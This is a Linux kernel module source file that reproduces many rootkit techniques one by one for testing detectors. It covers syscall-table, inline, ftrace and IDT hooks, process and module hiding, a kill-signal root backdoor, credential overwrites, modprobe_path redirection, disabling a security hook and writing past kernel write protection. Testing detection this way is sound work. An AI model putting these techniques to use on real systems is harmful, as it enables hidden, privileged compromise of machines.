// SPDX-License-Identifier: GPL-2.0
/*
 * What rootkits do to a running kernel, each by itself, so that a test can see that it is found:
 *
 *	insmod tamper.ko how=NAME [pid=N]
 *
 * rmmod undoes it, but for what hides the module. The names are in the table at the end. Nothing here conceals what it
 * does for longer than a test takes, and hooks pass everything on.
 */
#include <linux/binfmts.h>
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/hw_breakpoint.h>
#include <linux/jump_label.h>
#include <linux/kallsyms.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/lsm_hooks.h>
#include <linux/module.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/perf_event.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/reboot.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>
#include <linux/tracepoint.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/pgtable.h>
#include <asm/syscall.h>
#include <asm/trapnr.h>
#include <asm/x86_init.h>

static char *how = "";
module_param(how, charp, 0400);
static int pid;
module_param(pid, int, 0400);

/* The kernel's own table of symbols is not exported; a probe tells where it is looked up. */
static unsigned long (*lookup)(const char *name);

static int find_lookup(void)
{
	struct kprobe p = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&p);

	if (err)
		return err;
	lookup = (void *)p.addr;
	unregister_kprobe(&p);
	return 0;
}

static void *must(const char *name)
{
	void *at = (void *)lookup(name);

	if (!at)
		pr_err("tamper: no symbol %s\n", name);
	return at;
}

/* What was written over, to be put back. */
static struct {
	void *at;
	u8 old[16];
	int n;
} saved[4];
static int nsaved;

/* write_over writes where the kernel lets nobody write: it clears the bit that makes it heed its own page tables. */
static void write_over(void *at, const void *new, int n)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" :: "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(at, new, n);
	asm volatile("mov %0, %%cr0" :: "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int change(void *at, const void *new, int n)
{
	if (!at || nsaved == ARRAY_SIZE(saved) || n > sizeof(saved[0].old))
		return -ENOENT;
	saved[nsaved].at = at;
	saved[nsaved].n = n;
	memcpy(saved[nsaved].old, at, n);
	nsaved++;
	write_over(at, new, n);
	return 0;
}

static int change_pointer(void *at, void *new)
{
	return change(at, &new, sizeof(new));
}

/* call_to makes the five bytes of a call or jump at an address. */
static void call_to(u8 *code, u8 opcode, void *at, void *to)
{
	s32 rel = (long)to - ((long)at + 5);

	code[0] = opcode;
	memcpy(code + 1, &rel, 4);
}

/* Hooks. They count, and pass on. */
static atomic_t hits;
static asmlinkage long (*real_call)(const struct pt_regs *regs);

static asmlinkage noinline long hook_call(const struct pt_regs *regs)
{
	atomic_inc(&hits);
	return real_call(regs);
}

#define GETDENTS "__x64_sys_getdents64"

static int unlink_process(void)
{
	struct task_struct *task = pid_task(find_get_pid(pid), PIDTYPE_PID);

	if (!task)
		return -ESRCH;
	list_del_init(&task->tasks);
	return 0;
}

static void hide(void)
{
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

static int unlink_module(void)
{
	hide();
	return 0;
}

static int (*real_show)(struct seq_file *m, void *v);

static int hook_show(struct seq_file *m, void *v)
{
	atomic_inc(&hits);
	return real_show(m, v);
}

static int hide_socket(void)
{
	struct seq_operations *ops = must("tcp4_seq_ops");

	if (!ops)
		return -ENOENT;
	real_show = ops->show;
	return change_pointer(&ops->show, hook_show);
}

static int table(void)
{
	void **calls = must("sys_call_table");

	if (!calls)
		return -ENOENT;
	real_call = calls[__NR_getdents64];
	return change_pointer(&calls[__NR_getdents64], hook_call);
}

/* entry_of finds the five bytes that the function tracer has at a function's entry. */
static u8 *entry_of(const char *name)
{
	u8 *at = must(name);
	unsigned long (*location)(unsigned long ip) = must("ftrace_location");

	return at && location ? (u8 *)location((unsigned long)at) : NULL;
}

static int inline_patch(void)
{
	u8 code[5], *at = entry_of(GETDENTS);

	if (!at)
		return -ENOENT;
	real_call = (void *)(at + 5);
	call_to(code, 0xe9, at, hook_call);
	return change(at, code, 5);
}

static int prologue(void)
{
	static const u8 other_nop[5] = { 0x66, 0x66, 0x66, 0x66, 0x90 };

	return change(entry_of("ksys_sync"), other_nop, 5);
}

/* dispatch turns the jump or call with which x64_sys_call goes to getdents64. */
static int dispatch(void)
{
	u8 *at = must("x64_sys_call"), *to = must(GETDENTS);
	s32 rel;
	int i;

	if (!at || !to)
		return -ENOENT;
	for (i = 0; i < 16384; i++, at++) {
		if ((at[-1] != 0xe8 && at[-1] != 0xe9 && (at[-1] & 0xf0) != 0x80))
			continue;
		memcpy(&rel, at, 4);
		if (at + 4 + rel != to)
			continue;
		real_call = (void *)to;
		rel = (long)hook_call - ((long)at + 4);
		return change(at, &rel, 4);
	}
	return -ENOENT;
}

void *real_gate;
void tamper_gate(void);
asm(".pushsection .text\n.globl tamper_gate\ntamper_gate:\n\tjmp *real_gate(%rip)\n.popsection");

static int idt(void)
{
	gate_desc *gates = must("idt_table"), gate;
	unsigned long to = (unsigned long)tamper_gate;

	if (!gates)
		return -ENOENT;
	gate = gates[X86_TRAP_OF];
	real_gate = (void *)gate_offset(&gate);
	gate.offset_low = to;
	gate.offset_middle = to >> 16;
	gate.offset_high = to >> 32;
	return change(&gates[X86_TRAP_OF], &gate, sizeof(gate));
}

/* proc turns /proc/modules to a table of its own. The entry's struct is private to the kernel: it is known by what it holds. */
static int proc(void)
{
	static struct proc_ops ops;
	struct proc_ops *own = must("modules_proc_ops");
	struct file *f = filp_open("/proc/modules", O_RDONLY, 0);
	int i, j, err = -ENOENT;
	void **words, **entry, *v;

	if (IS_ERR(f) || !own)
		return -ENOENT;
	ops = *own;
	words = (void **)file_inode(f);
	for (i = 1; i <= 16 && err; i++) {
		entry = words[-i];
		for (j = 0; j < 32; j++) {
			if ((unsigned long)entry < PAGE_OFFSET || copy_from_kernel_nofault(&v, entry + j, sizeof(v)))
				break;
			if (v == own) {
				err = change_pointer(entry + j, &ops);
				break;
			}
		}
	}
	filp_close(f, NULL);
	return err;
}

static ssize_t (*real_read)(struct kiocb *iocb, struct iov_iter *iter);

static ssize_t hook_read(struct kiocb *iocb, struct iov_iter *iter)
{
	atomic_inc(&hits);
	return real_read(iocb, iter);
}

static int proc_read(void)
{
	struct proc_ops *own = must("kallsyms_proc_ops");

	if (!own)
		return -ENOENT;
	real_read = own->proc_read_iter;
	return change_pointer(&own->proc_read_iter, hook_read);
}

static int (*real_iterate)(struct file *f, struct dir_context *ctx);

static int hook_iterate(struct file *f, struct dir_context *ctx)
{
	atomic_inc(&hits);
	return real_iterate(f, ctx);
}

static int directory(void)
{
	struct file_operations *ops = must("ext4_dir_operations");

	if (!ops)
		return -ENOENT;
	real_iterate = ops->iterate_shared;
	return change_pointer(&ops->iterate_shared, hook_iterate);
}

/* inode turns one directory alone to a copy of its table. */
static int inode(void)
{
	static struct file_operations ops;
	struct file *f = filp_open("/etc", O_RDONLY | O_DIRECTORY, 0);
	int err;

	if (IS_ERR(f))
		return PTR_ERR(f);
	ops = *file_inode(f)->i_fop;
	real_iterate = ops.iterate_shared;
	ops.iterate_shared = hook_iterate;
	ops.owner = NULL;
	ihold(file_inode(f));
	err = change_pointer(&file_inode(f)->i_fop, &ops);
	filp_close(f, NULL);
	return err;
}

/* copy does the same with memory that is no module's. */
static int copied(void)
{
	struct file_operations *ops = kmalloc(sizeof(*ops), GFP_KERNEL);
	struct file *f = filp_open("/usr", O_RDONLY | O_DIRECTORY, 0);
	int err;

	if (IS_ERR(f) || !ops)
		return -ENOENT;
	*ops = *file_inode(f)->i_fop;
	ihold(file_inode(f));
	err = change_pointer(&file_inode(f)->i_fop, ops);
	filp_close(f, NULL);
	return err;
}

/* redirect sends a function's callers elsewhere by means of the function tracer. */
static unsigned long redirected;

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
	ftrace_get_regs(regs)->ip = redirected; /* which goes on behind the call that led here */
}

static struct ftrace_ops tracer = {
	.func = redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};
static bool tracing;

static int trace(const char *name, void *hook)
{
	u8 *at = entry_of(name);
	int err;

	if (!at)
		return -ENOENT;
	real_call = (void *)(at + 5);
	redirected = (unsigned long)hook;
	err = ftrace_set_filter_ip(&tracer, (unsigned long)at, 0, 0);
	if (!err)
		err = register_ftrace_function(&tracer);
	tracing = !err;
	return err;
}

static int by_ftrace(void)
{
	return trace(GETDENTS, hook_call);
}

/* What a magic signal does: kill -62 makes its caller root. */
static asmlinkage long hook_kill(const struct pt_regs *regs)
{
	struct cred *cred;

	if (regs->si != 62)
		return real_call(regs);
	cred = prepare_creds();
	if (!cred)
		return -ENOMEM;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	cred->cap_effective = cred->cap_permitted = CAP_FULL_SET;
	return commit_creds(cred);
}

static int magic(void)
{
	return trace("__x64_sys_kill", hook_kill);
}

/* credentials written in place, and those of the kernel itself given away: no hook, no call. */
static int write_ids(void)
{
	struct task_struct *task = pid_task(find_get_pid(pid), PIDTYPE_PID);
	struct cred *cred = task ? (struct cred *)task->real_cred : NULL;

	if (!cred)
		return -ESRCH;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

static int share_cred(void)
{
	struct task_struct *task = pid_task(find_get_pid(pid), PIDTYPE_PID);
	const struct cred *init = must("init_cred");

	if (!task || !init)
		return -ESRCH;
	get_cred(init);
	get_cred(init);
	rcu_assign_pointer(task->real_cred, init);
	rcu_assign_pointer(task->cred, init);
	return 0;
}

static int on_probe(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&hits);
	return 0;
}

static struct kprobe probe = { .symbol_name = GETDENTS, .pre_handler = on_probe };

static int by_kprobe(void)
{
	return register_kprobe(&probe);
}

static int on_return(struct kretprobe_instance *i, struct pt_regs *regs)
{
	atomic_inc(&hits);
	return 0;
}

static struct kretprobe returning = { .kp.symbol_name = GETDENTS, .handler = on_return };

static int by_kretprobe(void)
{
	return register_kretprobe(&returning);
}

static unsigned int on_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	atomic_inc(&hits);
	return NF_ACCEPT;
}

static struct nf_hook_ops packets = {
	.hook = on_packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = NF_IP_PRI_FIRST,
};

static int filter(void)
{
	return nf_register_net_hook(&init_net, &packets);
}

static int on_frame(struct sk_buff *skb, struct net_device *dev, struct packet_type *type, struct net_device *orig)
{
	atomic_inc(&hits);
	kfree_skb(skb);
	return 0;
}

static struct packet_type tap = { .type = htons(ETH_P_ALL), .func = on_frame };

static int sniff(void)
{
	dev_add_pack(&tap);
	return 0;
}

static int on_event(struct notifier_block *b, unsigned long action, void *data)
{
	atomic_inc(&hits);
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = on_event }, reboots = { .notifier_call = on_event };

static int keyboard(void)
{
	return register_keyboard_notifier(&keys);
}

static int reboot(void)
{
	return register_reboot_notifier(&reboots);
}

/* terminal reads what is typed. The function's type differs from kernel to kernel: the hook only jumps on. */
void *real_ldisc;
void tamper_ldisc(void);
asm(".pushsection .text\n.globl tamper_ldisc\ntamper_ldisc:\n\tjmp *real_ldisc(%rip)\n.popsection");

static int terminal(void)
{
	struct tty_ldisc_ops *ops = must("n_tty_ops");

	if (!ops)
		return -ENOENT;
	real_ldisc = ops->receive_buf2;
	return change_pointer(&ops->receive_buf2, tamper_ldisc);
}

static int no_binary(struct linux_binprm *bprm)
{
	atomic_inc(&hits);
	return -ENOEXEC;
}

static struct linux_binfmt format = { .load_binary = no_binary };

static int binary(void)
{
	insert_binfmt(&format);
	return 0;
}

static void on_tracepoint(void *data, struct pt_regs *regs, long id)
{
	atomic_inc(&hits);
}

static struct tracepoint *point;

static void pick_point(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sys_enter"))
		point = tp;
}

static int by_tracepoint(void)
{
	for_each_kernel_tracepoint(pick_point, NULL);
	return point ? tracepoint_probe_register(point, on_tracepoint, NULL) : -ENOENT;
}

static struct perf_event *__percpu *breakpoint;

static void on_break(struct perf_event *e, struct perf_sample_data *data, struct pt_regs *regs)
{
	atomic_inc(&hits);
}

static int by_breakpoint(void)
{
	struct perf_event_attr attr;

	hw_breakpoint_init(&attr);
	attr.bp_addr = (unsigned long)must("saved_command_line");
	attr.bp_len = HW_BREAKPOINT_LEN_8;
	attr.bp_type = HW_BREAKPOINT_RW;
	breakpoint = register_wide_hw_breakpoint(&attr, on_break, NULL);
	return IS_ERR((void __force *)breakpoint) ? PTR_ERR((void __force *)breakpoint) : 0;
}

/* security turns the hook of a security module. */
static int no_security(void)
{
	return 0;
}

static int security(void)
{
	struct security_hook_list *hooks = must("capability_hooks");

	return hooks ? change_pointer(&hooks[1].hook, no_security) : -ENOENT;
}

static int helper(void)
{
	return change(must("modprobe_path"), "/tmp/m", 7);
}

/* label changes the two or five bytes of a jump label to others that do the same. */
static int label(void)
{
	struct jump_entry *at = must("__start___jump_table"), *end = must("__stop___jump_table");
	static const u8 jump0[2] = { 0xeb, 0x00 }, jump3[5] = { 0xeb, 0x03, 0x90, 0x90, 0x90 };
	unsigned long from = lookup("_stext"), to = lookup("_etext");

	for (; at && at < end; at++) {
		u8 *code = (u8 *)jump_entry_code(at);

		if ((unsigned long)code < from || (unsigned long)code >= to)
			continue;
		if (code[0] == 0x66 && code[1] == 0x90)
			return change(code, jump0, 2);
		if (code[0] == 0x0f && code[1] == 0x1f && code[2] == 0x44)
			return change(code, jump3, 5);
	}
	return -ENOENT;
}

/* user_access lets the kernel go on reading a user's memory after it should have stopped: clac becomes a no-op. */
static int user_access(void)
{
	static const u8 clac[3] = { 0x0f, 0x01, 0xca }, nop[3] = { 0x0f, 0x1f, 0x00 };
	u8 *at = must("__get_user_8");
	int i;

	for (i = 0; at && i < 64; i++)
		if (!memcmp(at + i, clac, 3))
			return change(at + i, nop, 3);
	return -ENOENT;
}

void tamper_return(void);
asm(".pushsection .text\n.globl tamper_return\ntamper_return:\n\t.byte 0xc3, 0xcc\n.popsection");

/* thunk turns a function's return, a ret with its padding or a jump to the kernel's thunk, to code of the module's. */
static int thunk(void)
{
	static const u8 ret[5] = { 0xc3, 0xcc, 0xcc, 0xcc, 0xcc };
	u8 code[5], *at = must("ksys_sync");
	unsigned long size, offset;
	char name[KSYM_NAME_LEN], *mod;
	const char *(*symbol)(unsigned long, unsigned long *, unsigned long *, char **, char *) = must("kallsyms_lookup");
	int i;
	s32 rel;

	if (!at || !symbol || !symbol((unsigned long)at, &size, &offset, &mod, name))
		return -ENOENT;
	for (i = 0; i + 5 <= size; i++, at++) {
		bool is = !memcmp(at, ret, 5);

		if (at[0] == 0xe9) {
			memcpy(&rel, at + 1, 4);
			is = symbol((unsigned long)at + 5 + rel, &size, &offset, &mod, name) && strstr(name, "return_thunk");
			symbol((unsigned long)at, &size, &offset, &mod, name);
		}
		if (is) {
			call_to(code, 0xe9, at, tamper_return);
			return change(at, code, 5);
		}
	}
	return -ENOENT;
}

/* protect changes what a page of the kernel's may be used for: "ro", "rw", "x", "nx". */
static int protect(void *page, const char *to)
{
	char name[16] = "set_memory_";
	int (*set)(unsigned long addr, int pages);

	strcat(name, to);
	set = must(name);
	return set ? set((unsigned long)page & PAGE_MASK, 1) : -ENOENT;
}

/* unowned makes code that belongs to nothing: a page of the heap that the kernel may execute. */
static void *page;

static int unowned(void)
{
	int err;

	page = vmalloc(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memset(page, 0xc3, PAGE_SIZE);
	err = protect(page, "ro");
	return err ? err : protect(page, "x");
}

/* writable makes code that can be written to as well, in the page tables: the kernel's own way may refuse it, and what is done to
 * this module's own code while it starts is undone when it has. */
static int execute(bool allow)
{
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)page, &level);

	if (!pte || level != PG_LEVEL_4K)
		return -ENOENT;
	set_pte(pte, allow ? pte_mkexec(*pte) : __pte(pte_val(*pte) | _PAGE_NX));
	return 0;
}

static int writable(void)
{
	page = vmalloc(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memset(page, 0xc3, PAGE_SIZE);
	return execute(true);
}

/* after_init turns a pointer in memory that is read-only once the kernel has booted, to a function that nothing calls. */
static void no_wallclock(struct timespec64 *now)
{
	atomic_inc(&hits);
}

static int after_init(void)
{
	return change_pointer(&x86_platform.get_wallclock, no_wallclock);
}

/* The hidden: what they leave to be called. */
static struct timer_list tick;

static void on_tick(struct timer_list *t)
{
	atomic_inc(&hits);
	mod_timer(&tick, jiffies + HZ / 5);
}

static int hidden_timer(void)
{
	timer_setup(&tick, on_tick, 0);
	mod_timer(&tick, jiffies + HZ / 5);
	hide();
	return 0;
}

static int idle(void *data)
{
	while (!kthread_should_stop())
		msleep_interruptible(200);
	return 0;
}

static int hidden_thread(void)
{
	struct task_struct *task = kthread_run(idle, NULL, "kworker/u9:3");

	hide();
	return PTR_ERR_OR_ZERO(task);
}

/* hidden_pointer leaves a pointer in a variable that nobody would think of. */
static int hidden_pointer(void)
{
	int err = change_pointer(must("pm_power_off"), hook_call);

	hide();
	return err;
}

static const struct {
	const char *name;
	int (*how)(void);
} ways[] = {
	{ "process", unlink_process }, { "module", unlink_module }, { "socket", hide_socket }, { "table", table },
	{ "inline", inline_patch }, { "ftrace", by_ftrace }, { "kprobe", by_kprobe }, { "kretprobe", by_kretprobe },
	{ "dispatch", dispatch }, { "idt", idt }, { "proc", proc }, { "proc-read", proc_read }, { "directory", directory },
	{ "inode", inode }, { "copy", copied }, { "netfilter", filter }, { "sniffer", sniff }, { "keyboard", keyboard },
	{ "reboot", reboot }, { "terminal", terminal }, { "format", binary }, { "tracepoint", by_tracepoint },
	{ "breakpoint", by_breakpoint }, { "security", security }, { "helper", helper }, { "prologue", prologue },
	{ "label", label }, { "alternative", user_access }, { "thunk", thunk }, { "magic", magic }, { "ids", write_ids },
	{ "share", share_cred }, { "hidden-timer", hidden_timer }, { "hidden-thread", hidden_thread },
	{ "hidden-pointer", hidden_pointer }, { "unowned", unowned }, { "writable", writable }, { "after-init", after_init },
};

static int __init tamper_init(void)
{
	int i, err = find_lookup();

	if (err)
		return err;
	for (i = 0; i < ARRAY_SIZE(ways); i++)
		if (!strcmp(ways[i].name, how))
			return ways[i].how();
	return -EINVAL;
}

static void __exit tamper_exit(void)
{
	if (tracing) {
		unregister_ftrace_function(&tracer);
		ftrace_set_filter_ip(&tracer, 0, 1, 1);
	}
	if (!strcmp(how, "kprobe"))
		unregister_kprobe(&probe);
	if (!strcmp(how, "kretprobe"))
		unregister_kretprobe(&returning);
	if (!strcmp(how, "netfilter"))
		nf_unregister_net_hook(&init_net, &packets);
	if (!strcmp(how, "sniffer"))
		dev_remove_pack(&tap);
	if (!strcmp(how, "keyboard"))
		unregister_keyboard_notifier(&keys);
	if (!strcmp(how, "reboot"))
		unregister_reboot_notifier(&reboots);
	if (!strcmp(how, "format"))
		unregister_binfmt(&format);
	if (point) {
		tracepoint_probe_unregister(point, on_tracepoint, NULL);
		tracepoint_synchronize_unregister();
	}
	if (!strcmp(how, "unowned")) {
		protect(page, "nx");
		protect(page, "rw");
	}
	if (!strcmp(how, "writable"))
		execute(false);
	vfree(page);
	if (breakpoint)
		unregister_wide_hw_breakpoint(breakpoint);
	while (nsaved--)
		write_over(saved[nsaved].at, saved[nsaved].old, saved[nsaved].n);
	msleep(100); /* for who is in a hook */
}

module_init(tamper_init);
module_exit(tamper_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("tampers with a kernel for the tests of what finds it");
